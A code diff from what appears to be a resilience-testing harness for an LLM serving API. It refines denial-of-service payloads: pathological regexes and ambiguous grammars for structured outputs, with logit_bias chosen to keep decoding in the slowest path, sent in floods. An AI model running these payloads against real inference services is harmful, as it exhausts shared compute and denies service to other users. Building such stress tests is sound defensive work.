@@ -220,27 +220,34 @@ _EXPENSIVE: Final = "(a{0,30}){0,30}(a|aa){0,200}"
 
 async def expensive_regex(attacker: Attacker) -> None:
     """A regular expression that compiles in 2 ms and takes 842 ms for each token after the seventeenth."""
-    await attacker.flood(2, lambda number: held({"regex": f"{_EXPENSIVE}|y{number}"}))
+    held = await _staying(attacker)
+    await attacker.flood(2, lambda number: held({"regex": f"{_EXPENSIVE}b{{1,{number + 1}}}"}))
 
 
 async def expensive_grammar(attacker: Attacker) -> None:
     """A grammar that reads a text of `a` in very many ways."""
-    rules = 'root ::= e | "y{}"\ne ::= e e e | e e | "a" | "aa"'
+    held = await _staying(attacker)
+    rules = 'root ::= e "{}"\ne ::= e e e | e e | "a" | "aa"'
     await attacker.flood(2, lambda number: held({"grammar": rules.format(number)}))
 
 
 async def hidden_regex(attacker: Attacker) -> None:
-    """The same regular expression, behind 600 cheap characters or in a branch that no trial takes."""
-
-    def body(number: int) -> object:
-        return held({"regex": f"x{{{600 + number}}}{_EXPENSIVE}|[b-z]{{900}}|aaaab{_EXPENSIVE}"})
-
-    await attacker.flood(2, body)
+    """The same regular expression, behind 600 cheap characters, in one of two branches."""
+    held = await _staying(attacker)
+    await attacker.flood(2, lambda number: held({"regex": f"x{{{600 + number}}}{_EXPENSIVE}b|[b-w]{{900}}"}))
 
 
-def held(outputs: dict[str, str]) -> object:
-    """A request whose answer is held to something, and stays in its expensive part."""
-    return chat(text("a"), structured_outputs=outputs, max_tokens=1_500, ignore_eos=True, temperature=1.0)
+async def _staying(attacker: Attacker) -> Callable[[dict[str, str]], object]:
+    """A way to make requests whose answers are held to something, and stay at `x` and `a` for as long as they may."""
+    headers = {"Authorization": f"Bearer {attacker.key}"}
+    async with httpx.AsyncClient(base_url=attacker.url, headers=headers, timeout=30) as client:
+        answers = [await client.post("/tokenize", json={"prompt": one, "add_special_tokens": False}) for one in "xa"]
+    bias = {str(answer.json()["tokens"][-1]): 100 for answer in answers}
+
+    def held(outputs: dict[str, str]) -> object:
+        return chat(text("a"), structured_outputs=outputs, max_tokens=1_500, logit_bias=bias, temperature=1.0)
+
+    return held
 
 
 ATTACKS: Final[dict[str, Attack]] = {
